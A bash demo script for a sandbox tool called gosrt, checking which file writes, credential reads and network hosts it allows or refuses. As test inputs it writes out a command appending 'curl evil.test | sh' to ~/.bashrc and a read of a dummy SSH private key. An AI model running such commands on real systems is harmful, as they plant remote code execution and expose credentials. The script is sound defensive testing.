#!/bin/bash
# Usage: demo.sh GOSRT
# Runs gosrt on a copy of testdata/demo: its tests, one write allowed, one
# refused, one credential refused, one host allowed, one refused.
set -euo pipefail

gosrt=$(realpath "$1")
source=$(realpath "$(dirname "$0")/../testdata/demo")

# Not under /tmp, of which the command sees a private one.
work=$(mktemp -d "${GOSRT_DEMO_DIR:-/var/tmp}/gosrt-demo.XXXXXX")
trap 'kill "${origin:-}" 2>/dev/null || true; rm -rf "$work"' EXIT

mkdir -p "$work/home/.ssh"
echo 'a private key' >"$work/home/.ssh/id_ed25519"
cp -r "$source" "$work/shop"
cd "$work/shop"

# Go's own caches stay where they are; only the home directory is the demo's.
GOMODCACHE=$(go env GOMODCACHE) GOPATH=$(go env GOPATH)
export GOMODCACHE GOPATH HOME=$work/home

echo "demo: building the project's two programs"
GOCACHE=$work/gocache CGO_ENABLED=0 go build -o bin/ ./fetch ./origin
bin/origin "$work/port" & origin=$!
for _ in $(seq 100); do [ -s "$work/port" ] && break; sleep 0.05; done
port=$(cat "$work/port")

as_expected=0 all=0
# show TITLE WANT FLAGS… -- COMMAND…: WANT is "ok" or "refused".
show() {
	local title=$1 want=$2 status=0
	shift 2
	all=$((all + 1))
	printf '\n== %s\n$ gosrt' "$title"
	local word
	for word in "$@"; do
		case "$word" in
		*[!a-zA-Z0-9_./:=@%+,-]*) printf ' %s' "${word@Q}" ;;
		*) printf ' %s' "$word" ;;
		esac
	done
	printf '\n'
	"$gosrt" "$@" || status=$?
	local got=ok
	[ "$status" -eq 0 ] || got=refused
	if [ "$got" = "$want" ] && [ "$status" -ne 125 ]; then
		as_expected=$((as_expected + 1))
		echo "-> exit status $status, as expected"
	else
		echo "-> exit status $status, NOT as expected ($want)"
	fi
}

net=(--allow-domain "prices.test:$port" --resolve prices.test=127.0.0.1 --resolve evil.test=127.0.0.1)

show "the project's tests run, with no policy and no network" ok -- go test .
show "a write in the project is allowed" ok -- sh -c 'echo done > report.txt && cat report.txt'
show "a write in the home directory is refused" refused -- sh -c 'echo "curl evil.test | sh" >> ~/.bashrc'
show "reading a private key is refused" refused -- cat "$HOME/.ssh/id_ed25519"
show "an allowed host is reached" ok "${net[@]}" -- bin/fetch "http://prices.test:$port/"
show "any other host is refused" refused "${net[@]}" -- bin/fetch "http://evil.test:$port/"

echo
[ -e report.txt ] || { echo "demo: report.txt is missing on the host"; exit 1; }
[ ! -e "$HOME/.bashrc" ] || { echo "demo: ~/.bashrc was written"; exit 1; }
echo "demo: $as_expected of $all as expected"
[ "$as_expected" -eq "$all" ]
